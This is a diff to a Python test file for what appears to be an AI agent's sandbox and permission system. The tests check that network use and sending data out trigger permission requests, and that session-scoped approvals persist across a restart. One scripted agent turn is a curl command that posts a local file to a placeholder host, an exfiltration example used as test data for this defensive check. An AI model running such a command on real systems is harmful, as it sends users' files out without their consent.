@@ -13,8 +13,8 @@ from ouroboros.llm.turns import ScriptedCall, Turn
 from tests.story.stage import Stage, call, stage
 
 DONE = Turn(text="Done.")
-SOCKET = "sh probe"
-PROBE = "python3 -c 'import socket; socket.socket().close(); print(\"there is a network\")'"
+SOCKET = "python3 probe"
+PROBE = 'import socket; socket.socket().close(); print("there is", "a network")'
 NO_TMP = {"exclude_tmp": True}
 
 
@@ -91,13 +91,15 @@ async def test_a_yes_for_the_session_holds_after_a_restart(tmp_path: Path) -> No
     curl = run("curl -d @here http://example.invalid/")
     turns = one(run(SOCKET), asking(network=True), run(SOCKET), curl)
     no = Deny(request_id="", message="no")
-    async with stage(tmp_path, turns, interactive=True, sandbox=NO_TMP) as s:
+    # A script may send, so with a network it is asked about too, unless a rule names it.
+    rules = {"allow": [f"shell({SOCKET})"]}
+    async with stage(tmp_path, turns, interactive=True, sandbox=NO_TMP, permissions=rules) as s:
         await answered(s, "session", no)
         assert ["there is a network" in text for text in told(s)[:3]] == [False, False, True]
         # What was read may be carried away from now on, so that is asked about.
         assert "carry data out over the network" in s.events(PermissionRequested)[1].reason
     later = one(run(SOCKET), asking(network=True))
-    async with stage(tmp_path, later, resume=s.session.id, sandbox=NO_TMP) as s:
+    async with stage(tmp_path, later, resume=s.session.id, sandbox=NO_TMP, permissions=rules) as s:
         await s.run("Go on")
         assert "there is a network" in told(s)[-2]
         # A session's yes to one wish is none to the next.
